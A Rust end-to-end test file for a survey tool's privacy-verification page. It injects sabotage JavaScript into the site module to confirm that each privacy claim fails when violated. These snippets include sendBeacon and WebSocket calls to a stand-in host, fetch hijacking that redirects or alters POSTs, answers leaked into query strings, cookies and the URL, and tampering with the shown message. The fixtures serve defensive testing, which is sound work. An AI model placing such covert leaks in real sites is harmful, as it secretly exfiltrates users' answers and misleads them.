//! The page for sceptics: on a true site every claim holds, and on one that does what it should not, the claim that is
//! about it does not.

use crate::pilot::assert_accessible;
use anyhow::{Context, Result};
use culture_mirror_e2e::{
    browser::{Browser, Engine},
    deadline::until,
    site_copy::SiteCopy,
};
use serde_json::{Value, json};
use std::{fs, time::Duration};
use tokio::time::{Instant, sleep};
use xtask::{
    build::integrity,
    site::{Recorder, Site},
};

const POLICY: &str = "content-security-policy";
const MODULE: &str = "culture-mirror.js";
const MANIFEST: &str = "integrity.json";
const CLAIMS: [&str; 11] = [
    "own-files",
    "quiet",
    "one-post",
    "as-shown",
    "closed",
    "no-sign-in",
    "no-other-way",
    "nothing-stored",
    "address",
    "policy",
    "unaltered",
];
/// Forty statements at a pace that can be watched take longer than anything else that a test waits for.
const RUN: Duration = Duration::from_mins(1);

/// Runs the check and tells each claim, and whether it held.
async fn run(browser: &Browser) -> Result<Vec<(String, bool)>> {
    start(browser).await?;
    let script = "return [!document.getElementById('run').disabled, document.getElementById('status').textContent,
        [...document.querySelectorAll('#claims li')].map(({ dataset }) => [dataset.claim, dataset.holds === 'true'])]";
    let begun = Instant::now();
    loop {
        let state = browser.run(script, &[]).await?;
        let (is_over, status, claims): (bool, String, Vec<(String, bool)>) = serde_json::from_value(state)?;
        if is_over && !claims.is_empty() {
            return Ok(claims);
        }
        assert!(!is_over && begun.elapsed() < RUN, "{status}");
        sleep(Duration::from_millis(50)).await;
    }
}

/// Presses the button, which has its words when all is ready.
async fn start(browser: &Browser) -> Result<()> {
    let button = async || browser.element("return document.querySelector('#run:not(:empty)')", &[]).await;
    browser.click(&until("the button", button).await?).await
}

/// The claims that did not hold.
async fn failed(browser: &Browser) -> Result<Vec<String>> {
    let claims = run(browser).await?;
    assert_eq!(claims.iter().map(|(claim, _)| claim.as_str()).collect::<Vec<_>>(), CLAIMS);
    Ok(claims.into_iter().filter(|(_, holds)| !holds).map(|(claim, _)| claim).collect())
}

/// A site whose module has something added to it, and whose list of files says so.
fn sabotaged(addition: &str) -> Result<SiteCopy> {
    let copy = SiteCopy::new()?;
    let module = format!("{}\n{addition}\n", fs::read_to_string(copy.folder().join(MODULE))?);
    let mut manifest: Value = serde_json::from_slice(&fs::read(copy.folder().join(MANIFEST))?)?;
    manifest["files"][MODULE]["integrity"] = json!(integrity::of(module.as_bytes()));
    copy.write(MODULE, module)?;
    copy.write(MANIFEST, manifest.to_string())?;
    Ok(copy)
}

#[tokio::test]
async fn on_a_true_site_every_claim_holds_in_every_browser() -> Result<()> {
    for engine in [Engine::Chromium, Engine::Firefox, Engine::WebKit] {
        let browser = Browser::start_engine(engine).await?;
        let (copy, recorder) = (SiteCopy::new()?, Recorder::default());
        let site = Site::new(copy.folder()).recorded_by(&recorder).start(0).await?;
        browser.open(&format!("{}verify.html#en", site.address())).await?;
        let none: [&str; 0] = [];
        assert_eq!(failed(&browser).await?, none, "{engine:?}");
        let script = "const rows = [...document.querySelectorAll('#requests tr')].map((row) =>
                [...row.cells].map((cell) => cell.textContent));
            const text = (id) => document.getElementById(id).textContent;
            return [rows.at(-1), rows.length, JSON.parse(text('message')).format, text('policy'), text('hash')]";
        let (last, rows, format, policy, hash): ([String; 4], usize, String, String, String) =
            serde_json::from_value(browser.run(script, &[]).await?)?;
        let caught = ["POST", "https://endpoint.invalid/submissions", "after Send", "caught on this page"];
        assert_eq!(last, caught, "{engine:?}");
        // The module, two programs, two sheets of words, two of the instrument's, the instrument, the report's sheet.
        assert_eq!(rows, 10, "{engine:?}");
        assert_eq!(format, "culture-mirror/submission/1");
        assert!(
            policy.starts_with("default-src 'none';\nscript-src 'self' 'wasm-unsafe-eval';\n"),
            "{policy}"
        );
        assert_eq!(hash, integrity::of_file(&copy.folder().join(MODULE))?);
        // By the wire's word as well.
        assert!(
            recorder.requests().iter().all(|request| request.method == "GET" && !request.path.contains('?'))
        );
    }
    Ok(())
}

#[tokio::test]
async fn the_pages_own_policy_is_enough_and_without_any_that_claim_fails() -> Result<()> {
    let browser = Browser::start().await?;
    let copy = SiteCopy::new()?;
    let without_header =
        |copy: &SiteCopy| anyhow::Ok(Site::new(copy.folder()).without_header(POLICY.parse()?));
    let site = without_header(&copy)?.start(0).await?;
    browser.open(&format!("{}verify.html#en", site.address())).await?;
    let none: [&str; 0] = [];
    assert_eq!(failed(&browser).await?, none);

    let page = fs::read_to_string(copy.folder().join("verify.html"))?;
    let (before, after) = page.split_once("<meta http-equiv").context("no policy in the page")?;
    let (_, after) = after.split_once('>').context("no end of the policy")?;
    copy.write("verify.html", format!("{before}{after}"))?;
    browser.open("about:blank").await?;
    browser.open(&format!("{}verify.html#en", site.address())).await?;
    assert_eq!(failed(&browser).await?, ["policy"]);
    let shown = "return [document.getElementById('policy').textContent, document.getElementById('verdict').textContent]";
    let expected = json!([
        "None was found.",
        "Not every claim held in this run. Do not enter answers before somebody has looked into it."
    ]);
    assert_eq!(browser.run(shown, &[]).await?, expected);
    Ok(())
}

/// What every sabotage may use: to act at a statement, of which every one but the first follows an answer.
const ON_STEP: &str =
    "const onStep = (wanted, act) => document.addEventListener('culture-mirror:progress', (event) => {
    if (event.detail.step >= wanted && !window[`done${wanted}`]) {
        window[`done${wanted}`] = true;
        act(event);
    }
});";
/// And to send something else instead.
const INSTEAD: &str = "const plain = window.fetch;
    const instead = (change) => { window.fetch = (url, options) =>
        options?.method === 'POST' ? plain(...change(url, options)) : plain(url, options); };";
/// What a site might send, and the claims that are about it.
const SENDS: [(&str, &[&str]); 6] = [
    // The policy stops it, and it was tried.
    ("onStep(3, () => navigator.sendBeacon('https://elsewhere.invalid/', '4'));", &["no-other-way"]),
    ("onStep(3, () => { new WebSocket('wss://elsewhere.invalid/'); });", &["no-other-way"]),
    ("onStep(3, () => document.body.append(document.createElement('iframe')));", &["no-other-way"]),
    ("onStep(3, () => fetch('languages/en.json?answer=4'));", &["own-files", "quiet"]),
    (
        "document.addEventListener('culture-mirror:submitted', () =>
            setTimeout(() => fetch('https://endpoint.invalid/submissions', { method: 'POST', body: 'more', credentials: 'omit' }), 500));",
        &["one-post", "as-shown"],
    ),
    ("instead((url, options) => [`${url}/elsewhere`, options]);", &["one-post"]),
];
/// What it might keep or alter.
const KEEPS_OR_ALTERS: [(&str, &[&str]); 6] = [
    // Stored, and gone before the end.
    (
        "onStep(3, () => localStorage.setItem('answers', '4'));
         onStep(30, () => localStorage.removeItem('answers'));",
        &["nothing-stored"],
    ),
    ("onStep(3, () => { document.cookie = 'answer=4'; });", &["nothing-stored"]),
    ("onStep(3, () => history.replaceState(history.state, '', '?answer=4'));", &["address"]),
    ("instead((url, options) => [url, { ...options, body: `${options.body} ` }]);", &["as-shown"]),
    ("instead((url, options) => [url, { ...options, credentials: 'include' }]);", &["no-sign-in"]),
    // What is shown is what is sent, and too much.
    (
        "const more = (text) => text.replace('{', '{ \"answers\": [4, 4],');
         instead((url, options) => [url, { ...options, body: more(options.body) }]);
         document.addEventListener('culture-mirror:completed', ({ target }) => new MutationObserver(() => {
             const shown = target.shadowRoot.querySelector('.share .message pre');
             if (shown && !shown.textContent.includes('answers')) shown.textContent = more(shown.textContent);
         }).observe(target.shadowRoot, { subtree: true, childList: true }));",
        &["closed"],
    ),
];

#[tokio::test]
async fn whatever_a_site_does_the_claim_about_it_fails_and_no_other() -> Result<()> {
    assert_found(&SENDS).await
}

#[tokio::test]
async fn whatever_it_keeps_or_alters_is_found_in_the_same_way() -> Result<()> {
    assert_found(&KEEPS_OR_ALTERS).await
}

async fn assert_found(sabotage: &[(&str, &[&str])]) -> Result<()> {
    let browser = Browser::start().await?;
    for (addition, expected) in sabotage {
        let copy = sabotaged(&format!("{ON_STEP}\n{INSTEAD}\n{addition}"))?;
        let site = Site::new(copy.folder()).start(0).await?;
        browser.open(&format!("{}verify.html#en", site.address())).await?;
        assert_eq!(failed(&browser).await?, *expected, "{addition}");
        browser.driver().delete_all_cookies().await?;
    }
    Ok(())
}

#[tokio::test]
async fn a_file_that_is_not_in_the_builds_list_is_found_or_refused() -> Result<()> {
    let browser = Browser::start().await?;
    let copy = SiteCopy::new()?;
    let module = fs::read_to_string(copy.folder().join(MODULE))?;
    copy.write(MODULE, format!("{module}\n"))?;
    let site = Site::new(copy.folder()).start(0).await?;
    browser.open(&format!("{}verify.html#en", site.address())).await?;
    assert_eq!(failed(&browser).await?, ["unaltered"]);

    // What the program itself checks never gets that far.
    let copy = SiteCopy::new()?;
    copy.flip_byte("instruments/customer-culture/instrument.json")?;
    let site = Site::new(copy.folder()).start(0).await?;
    browser.open(&format!("{}verify.html#en", site.address())).await?;
    start(&browser).await?;
    let reason = "The check could not be carried out. Reason: integrity-mismatch";
    browser.wait_for(&format!("document.getElementById('status').textContent === '{reason}'")).await?;
    assert_eq!(browser.run("return document.getElementById('results').hidden", &[]).await?, true);
    Ok(())
}

#[tokio::test]
async fn it_speaks_german_and_begins_anew_without_a_question() -> Result<()> {
    let browser = Browser::start().await?;
    let copy = SiteCopy::new()?;
    let site = Site::new(copy.folder()).start(0).await?;
    browser.open(&format!("{}verify.html", site.address())).await?;
    browser.wait_for("document.title === 'Check that the answers stay here'").await?;
    let german = browser.element("return document.querySelector('[data-language=de]')", &[]).await?;
    browser.click(&german.context("no link")?).await?;
    browser.wait_for("document.title === 'Prüfen, dass die Antworten hierbleiben'").await?;
    let none: [&str; 0] = [];
    assert_eq!(failed(&browser).await?, none);
    let script = "return [document.getElementById('verdict').textContent, document.documentElement.lang,
        document.querySelector('culture-mirror').shadowRoot.querySelector('.mirror').lang]";
    let expected = json!(["In diesem Durchgang traf jede Behauptung zu.", "de", "de"]);
    assert_eq!(browser.run(script, &[]).await?, expected);
    browser.run("window.isOld = true", &[]).await?;
    start(&browser).await?;
    browser
        .wait_for("!window.isOld && document.getElementById('run').textContent === 'Prüfung starten'")
        .await?;
    assert_eq!(failed(&browser).await?, none);
    Ok(())
}

#[tokio::test]
async fn nothing_is_found_by_the_accessibility_checker() -> Result<()> {
    let browser = Browser::start().await?;
    let copy = SiteCopy::new()?;
    // A failed claim is there to be seen as well.
    copy.write(MODULE, format!("{}\n", fs::read_to_string(copy.folder().join(MODULE))?))?;
    let site = Site::new(copy.folder()).start(0).await?;
    for theme in ["light", "dark"] {
        browser.prefer(theme).await?;
        browser.open("about:blank").await?;
        browser.open(&format!("{}verify.html#en", site.address())).await?;
        browser.wait_for("document.getElementById('run').textContent").await?;
        assert_accessible(&browser, &format!("{theme}: before")).await?;
        assert_eq!(failed(&browser).await?, ["unaltered"]);
        assert_accessible(&browser, &format!("{theme}: after")).await?;
    }
    Ok(())
}
